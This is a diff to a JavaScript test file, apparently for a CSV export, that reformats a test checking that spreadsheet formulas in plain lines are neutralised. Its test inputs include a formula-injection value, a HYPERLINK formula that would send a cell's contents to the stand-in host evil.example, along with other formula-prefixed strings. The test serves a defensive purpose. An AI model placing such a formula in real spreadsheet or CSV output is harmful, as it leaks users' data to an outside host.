@@ -160,7 +160,16 @@ describe('a file on the playground', () => {
 
 describe('a table that is made of plain lines', () => {
   it('holds no formula for spreadsheet programs', async () => {
-    const lines = ['=HYPERLINK("http://evil.example/?"&A1)', '@SUM(1)', '+1-1', '-2', '\t=1', '＝1', 'a=b', '5 - 3'];
+    const lines = [
+      '=HYPERLINK("http://evil.example/?"&A1)',
+      '@SUM(1)',
+      '+1-1',
+      '-2',
+      '\t=1',
+      '＝1',
+      'a=b',
+      '5 - 3',
+    ];
     const { csv } = await detect(lines.join('\n'), { kind: 'lines' });
     expect((await csv.text()).split('\n').slice(1, -1)).toEqual([
       `"'=HYPERLINK(""http://evil.example/?""&A1)",de,0.9`,
